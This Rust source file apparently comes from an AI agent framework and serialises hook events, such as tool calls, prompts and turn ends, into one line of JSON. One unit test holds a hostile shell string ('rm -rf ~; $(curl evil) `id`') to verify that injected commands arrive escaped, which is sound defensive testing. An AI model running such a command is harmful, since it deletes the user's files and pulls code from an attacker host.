//! The JSON a hook reads on stdin: one object, `event`, `pod` and `cwd` always, then the
//! event's own fields (docs/hooks.md, "The event"). Serialised by serde from typed values, so
//! whatever a tool argument holds (quotes, `$(…)`, newlines, invalid JSON) arrives as a JSON
//! string, escaped, and never as syntax.

use std::path::Path;

use seedpod_config::HookEvent;
use seedpod_protocol::CompactionTrigger;
use serde::Serialize;

/// An event's own fields.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Details {
    /// `pre_tool` (`result: None`) and `post_tool`.
    Tool {
        name: String,
        call_id: String,
        /// The raw string the model produced; sent parsed too when it is JSON.
        arguments: String,
        /// The result's content and whether it is an error.
        result: Option<(String, bool)>,
    },
    /// `user_prompt`: the input's text.
    Prompt { text: String },
    /// `turn_end`: how the run ended (`completed`, `failed`, …) and its message.
    TurnEnd {
        outcome: &'static str,
        message: Option<String>,
    },
    /// `notification`: the text a person or script sent.
    Notification { message: String },
    /// `pre_compact`: why (`auto` past `compact_at`, `command` for `/compact`, `overflow` when
    /// the server said "too long").
    PreCompact { trigger: &'static str },
    /// `session_start`: how many items the conversation holds (0: nothing said yet).
    SessionStart { history_items: usize },
}

#[derive(Serialize)]
struct Envelope<'a> {
    event: &'static str,
    pod: &'a str,
    cwd: &'a Path,
    #[serde(skip_serializing_if = "Option::is_none")]
    tool: Option<ToolJson<'a>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    result: Option<ResultJson<'a>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    prompt: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    outcome: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    message: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    trigger: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    history_items: Option<usize>,
}

#[derive(Serialize)]
struct ToolJson<'a> {
    name: &'a str,
    call_id: &'a str,
    /// The arguments as JSON when the model's string parses, else `null`.
    arguments: serde_json::Value,
    arguments_raw: &'a str,
}

#[derive(Serialize)]
struct ResultJson<'a> {
    content: &'a str,
    is_error: bool,
}

/// A compaction's trigger as the event names it.
pub fn trigger_name(trigger: CompactionTrigger) -> &'static str {
    match trigger {
        CompactionTrigger::Auto => "auto",
        CompactionTrigger::Command => "command",
        CompactionTrigger::Overflow => "overflow",
        CompactionTrigger::Unknown => "unknown",
    }
}

/// The bytes a hook for `event` reads on stdin: one line of JSON and a newline.
pub fn render(event: HookEvent, pod: &str, cwd: &Path, details: &Details) -> Vec<u8> {
    let mut envelope = Envelope {
        event: event.as_str(),
        pod,
        cwd,
        tool: None,
        result: None,
        prompt: None,
        outcome: None,
        message: None,
        trigger: None,
        history_items: None,
    };
    match details {
        Details::Tool {
            name,
            call_id,
            arguments,
            result,
        } => {
            envelope.tool = Some(ToolJson {
                name,
                call_id,
                arguments: serde_json::from_str(arguments).unwrap_or(serde_json::Value::Null),
                arguments_raw: arguments,
            });
            envelope.result = result.as_ref().map(|(content, is_error)| ResultJson {
                content,
                is_error: *is_error,
            });
        }
        Details::Prompt { text } => envelope.prompt = Some(text),
        Details::TurnEnd { outcome, message } => {
            envelope.outcome = Some(outcome);
            envelope.message = message.as_deref();
        }
        Details::Notification { message } => envelope.message = Some(message),
        Details::PreCompact { trigger } => envelope.trigger = Some(trigger),
        Details::SessionStart { history_items } => envelope.history_items = Some(*history_items),
    }
    // Serialising plain strings, numbers and a parsed `Value` cannot fail; an empty object is
    // still a valid event should it ever.
    let mut bytes = serde_json::to_vec(&envelope).unwrap_or_else(|_| b"{}".to_vec());
    bytes.push(b'\n');
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_arguments_arrive_as_escaped_strings() {
        let arguments = r#"{"command":"rm -rf ~; $(curl evil) `id` \"\n"}"#;
        let bytes = render(
            HookEvent::PreTool,
            "p",
            Path::new("/w"),
            &Details::Tool {
                name: "shell".into(),
                call_id: "c1".into(),
                arguments: arguments.into(),
                result: None,
            },
        );
        assert_eq!(bytes.iter().filter(|&&b| b == b'\n').count(), 1, "one line");
        let value: serde_json::Value = serde_json::from_slice(&bytes).expect("valid JSON");
        assert_eq!(value["event"], "pre_tool");
        assert_eq!(value["tool"]["arguments_raw"], arguments);
        assert_eq!(
            value["tool"]["arguments"]["command"],
            "rm -rf ~; $(curl evil) `id` \"\n"
        );
        assert!(value.get("result").is_none());
    }

    #[test]
    fn arguments_that_are_not_json_are_sent_raw_only() {
        let bytes = render(
            HookEvent::PostTool,
            "p",
            Path::new("/w"),
            &Details::Tool {
                name: "shell".into(),
                call_id: "c1".into(),
                arguments: "{not json".into(),
                result: Some(("out".into(), true)),
            },
        );
        let value: serde_json::Value = serde_json::from_slice(&bytes).expect("valid JSON");
        assert!(value["tool"]["arguments"].is_null());
        assert_eq!(value["tool"]["arguments_raw"], "{not json");
        assert_eq!(value["result"]["content"], "out");
        assert_eq!(value["result"]["is_error"], true);
    }
}
